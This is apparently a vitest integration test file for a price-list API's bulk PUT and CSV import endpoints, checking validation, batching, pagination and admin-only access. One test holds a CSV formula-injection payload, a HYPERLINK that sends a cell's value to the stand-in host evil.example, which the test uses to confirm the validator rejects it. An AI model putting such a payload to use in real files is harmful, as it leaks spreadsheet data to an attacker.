import { beforeAll, describe, expect, it } from 'vitest';
import type { PriceEntry } from '../../src/domain/price-list.ts';
import type { Product } from '../../src/domain/product.ts';
import { buildPrice, buildProduct } from '../support/catalog-builders.ts';
import { buildCustomerFields, createTestApp, type TestApp } from '../support/test-app.ts';

let app: TestApp;
let admin: string;
let product: Product;

const HEADER = 'productId,term,frequency,currency,salePrice,cost,effectiveFrom';

async function priceRows(partition?: string): Promise<number> {
  let count = 0;
  for await (const entity of app.services.storage.table('prices').listEntities())
    if (!partition || entity.partitionKey === partition) count += 1;
  return count;
}

async function newCustomer(): Promise<string> {
  return (await app.call('POST', '/api/customers', { token: admin, body: buildCustomerFields() })).body.id;
}

const putPrices = (listId: string, prices: unknown[]) =>
  app.call('PUT', `/api/price-lists/${listId}/prices`, { token: admin, body: { prices } });
const importCsv = (listId: string, csv: string, token = admin) =>
  app.call('POST', `/api/price-lists/${listId}/imports`, {
    token,
    rawBody: csv,
    headers: { 'content-type': 'text/csv; charset=utf-8' },
  });
const paths = (response: { body: { errors: { path: string }[] } }) => response.body.errors.map((e) => e.path);

beforeAll(async () => {
  app = await createTestApp();
  admin = await app.tokens.partnerAdmin();
  product = buildProduct();
  expect((await app.call('POST', '/api/catalog/products', { token: admin, body: product })).status).toBe(201);
});

describe('PUT /api/price-lists/{priceListId}/prices', () => {
  it('saves entries with amounts in the currency’s decimals and reports what changed', async () => {
    const customerId = await newCustomer();
    const entries = [
      buildPrice({ productId: product.id, salePrice: '20', cost: '18.5' }),
      buildPrice({ productId: product.id, frequency: 'annual', salePrice: '240.00', cost: '216.00' }),
      buildPrice({ productId: product.id, term: 'P1M', salePrice: '0.012345', cost: '0' }),
    ];
    expect(await putPrices(customerId, entries)).toMatchObject({
      status: 200,
      body: { priceListId: customerId, received: 3, created: 3, updated: 0, unchanged: 0 },
    });
    const again = await putPrices(customerId, [
      { ...entries[0], salePrice: '20.00', cost: '18.50' },
      { ...entries[1], salePrice: '250.00' },
    ]);
    expect(again.body).toMatchObject({ received: 2, created: 0, updated: 1, unchanged: 1 });

    const read = await app.call('GET', `/api/price-lists/${customerId}/prices`, { token: admin });
    expect(read.body.items).toEqual([
      { ...entries[2], salePrice: '0.012345', cost: '0.00' },
      { ...entries[1], salePrice: '250.00', cost: '216.00' },
      { ...entries[0], salePrice: '20.00', cost: '18.50' },
    ]);
  });

  it.each<[string, Partial<PriceEntry> | Record<string, unknown>, string]>([
    ['a frequency the term does not have', { term: 'P1M', frequency: 'annual' }, 'body.prices.1.frequency'],
    ['a term the product does not offer', { term: 'P3Y', frequency: 'triennial' }, 'body.prices.1.term'],
    ['an unknown product', { productId: 'CFQ7TTC0ZZZZ:0009' }, 'body.prices.1.productId'],
    ['a negative price', { salePrice: '-1.00' }, 'body.prices.1.salePrice'],
    ['a price that is no number', { cost: '1e3' }, 'body.prices.1.cost'],
    ['a date that does not exist', { effectiveFrom: '2026-02-30' }, 'body.prices.1.effectiveFrom'],
    ['an unknown currency', { currency: 'XYZ' }, 'body.prices.1.currency'],
    ['an unknown field', { discount: '5' }, 'body.prices.1'],
  ])('refuses %s naming the field, storing nothing of the batch', async (_, overrides, path) => {
    const before = await priceRows();
    const good = buildPrice({ productId: product.id, effectiveFrom: '2027-01-01' });
    const response = await putPrices('global', [good, { ...buildPrice({ productId: product.id }), ...overrides }]);
    expect(response.status).toBe(400);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(paths(response)).toContain(path);
    expect(await priceRows()).toBe(before);
  });

  it('refuses the same offer and date twice in one batch', async () => {
    const entry = buildPrice({ productId: product.id, effectiveFrom: '2027-02-01' });
    const response = await putPrices('global', [entry, { ...entry, salePrice: '1.00' }]);
    expect(response).toMatchObject({
      status: 400,
      body: { errors: [{ path: 'body.prices.1', message: expect.stringContaining('body.prices.0') }] },
    });
  });

  it('writes batches larger than one entity-group transaction', async () => {
    const customerId = await newCustomer();
    const entries = Array.from({ length: 250 }, (_, i) =>
      buildPrice({
        productId: product.id,
        effectiveFrom: new Date(Date.UTC(2026, 0, 1 + i)).toISOString().slice(0, 10),
      }),
    );
    expect((await putPrices(customerId, entries)).body).toMatchObject({ created: 250 });
    expect(await priceRows(customerId)).toBe(250);

    const seen: string[] = [];
    let token: string | undefined;
    do {
      const query = new URLSearchParams({
        pageSize: '100',
        productId: product.id,
        ...(token ? { continuationToken: token } : {}),
      });
      const page = await app.call('GET', `/api/price-lists/${customerId}/prices?${query}`, { token: admin });
      seen.push(...page.body.items.map((e: PriceEntry) => e.effectiveFrom));
      token = page.body.continuationToken;
    } while (token);
    expect(seen).toEqual(entries.map((e) => e.effectiveFrom));
  });

  it('answers 404 for the list of an unknown customer and 400 for a list id that is none', async () => {
    const entry = buildPrice({ productId: product.id });
    expect(await putPrices('6f9619ff-8b86-4d11-b42d-00c04fc964ff', [entry])).toMatchObject({
      status: 404,
      body: { code: 'CUSTOMER.NOT_FOUND' },
    });
    expect(await putPrices('Global', [entry])).toMatchObject({
      status: 400,
      body: { errors: [{ path: 'params.priceListId' }] },
    });
  });

  it('is for partner admins only: a customer’s Admin may not change its own prices', async () => {
    const customerId = await newCustomer();
    const customerAdmin = await app.tokens.customerUser(customerId, 'Admin');
    const response = await app.call('PUT', `/api/price-lists/${customerId}/prices`, {
      token: customerAdmin,
      body: { prices: [buildPrice({ productId: product.id })] },
    });
    expect(response).toMatchObject({ status: 403, body: { code: 'AUTH.PARTNER_ADMIN_REQUIRED' } });
    expect((await app.call('GET', `/api/price-lists/${customerId}/prices`, { token: customerAdmin })).status).toBe(403);
    expect(
      (await importCsv(customerId, `${HEADER}\n${product.id},P1Y,monthly,USD,1.00,1.00,2026-01-01\n`, customerAdmin))
        .status,
    ).toBe(403);
    expect(await priceRows(customerId)).toBe(0);
  });
});

describe('POST /api/price-lists/{priceListId}/imports', () => {
  const csvOf = (lines: string[]) => [HEADER, ...lines].join('\r\n');

  it('imports a good file, and re-importing it changes nothing', async () => {
    const customerId = await newCustomer();
    const csv = `\uFEFF${csvOf([
      `${product.id},P1Y,monthly,USD,22.00,19.80,2026-01-01`,
      '',
      `${product.id},P1Y,annual,USD,264,237.6,2026-01-01`,
      `"${product.id}",P1M,monthly,EUR,24.70,22.23,2026-01-01`,
    ])}\r\n`;
    expect(await importCsv(customerId, csv)).toMatchObject({
      status: 200,
      body: { priceListId: customerId, received: 3, created: 3, updated: 0, unchanged: 0 },
    });
    expect(await importCsv(customerId, csv)).toMatchObject({
      status: 200,
      body: { received: 3, created: 0, updated: 0, unchanged: 3 },
    });
    expect(await priceRows(customerId)).toBe(3);
    const price = await app.services.catalog.priceFor({
      customerId,
      productId: product.id,
      term: 'P1Y',
      frequency: 'annual',
      currency: 'USD',
      onDate: '2026-06-01',
    });
    expect(price).toMatchObject({ unitPrice: '264.00', cost: '237.60', source: 'customer' });
  });

  it('refuses a file with a bad row, naming its line, and imports nothing', async () => {
    const before = await priceRows('global');
    const response = await importCsv(
      'global',
      csvOf([
        `${product.id},P1Y,monthly,USD,22.00,19.80,2026-01-01`,
        `${product.id},P1Y,monthly,GBP,18.10,16.29,2026-01-01`,
        `${product.id},P1Y,monthly,EUR,-20.60,18.54,2026-01-01`,
        `${product.id},P1M,annual,EUR,20.60,18.54,2026-02-30`,
      ]),
    );
    expect(response.status).toBe(400);
    expect(paths(response)).toEqual(['line 4.salePrice', 'line 5.effectiveFrom', 'line 5.frequency']);
    expect(response.body.detail).toMatch(/nothing was imported/);
    expect(await priceRows('global')).toBe(before);
  });

  it('refuses formula-like values, which no column accepts', async () => {
    const response = await importCsv(
      'global',
      csvOf([
        `"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",P1Y,monthly,USD,1.00,1.00,2026-01-01`,
        `${product.id},P1Y,monthly,@SUM(1+1),1.00,1.00,2026-01-01`,
        `${product.id},P1Y,monthly,USD,+1.00,1.00,2026-01-01`,
      ]),
    );
    expect(response.status).toBe(400);
    expect(paths(response)).toEqual(['line 2.productId', 'line 3.currency', 'line 4.salePrice']);
  });

  it('refuses unknown products, unoffered terms and repeated rows by line', async () => {
    const response = await importCsv(
      'global',
      csvOf([
        `CFQ7TTC0ZZZZ:0009,P1Y,monthly,USD,1.00,1.00,2026-01-01`,
        `${product.id},P3Y,triennial,USD,1.00,1.00,2026-01-01`,
        `${product.id},P1Y,monthly,USD,1.00,1.00,2026-03-01`,
        `${product.id},P1Y,monthly,USD,2.00,2.00,2026-03-01`,
        `${product.id},P1Y,monthly,USD,1.00`,
      ]),
    );
    expect(response.status).toBe(400);
    expect(paths(response)).toEqual(['line 2.productId', 'line 3.term', 'line 5', 'line 6']);
  });

  it('refuses a wrong header, an empty file and CSV that does not parse', async () => {
    expect(paths(await importCsv('global', `productId;term\n${product.id};P1Y\n`))).toEqual(['line 1']);
    expect(paths(await importCsv('global', `${HEADER}\n`))).toEqual(['line 2']);
    const unclosed = await importCsv('global', csvOf([`"${product.id},P1Y,monthly,USD,1.00,1.00,2026-01-01`]));
    expect(unclosed).toMatchObject({ status: 400, body: { errors: [{ path: 'line 2' }] } });
  });

  it('lists at most 100 errors and says how many there were', async () => {
    const rows = Array.from({ length: 150 }, () => `${product.id},P1Y,monthly,USD,free,1.00,2026-01-01`);
    const response = await importCsv('global', csvOf(rows));
    expect(response.status).toBe(400);
    expect(response.body.errors).toHaveLength(100);
    expect(response.body.errorCount).toBe(150);
    expect(response.body.errors[99].path).toBe('line 101.salePrice');
  });

  it('takes text/csv only', async () => {
    const response = await app.call('POST', '/api/price-lists/global/imports', { token: admin, body: { prices: [] } });
    expect(response).toMatchObject({ status: 415, body: { code: 'REQUEST.UNSUPPORTED_MEDIA_TYPE' } });
  });
});
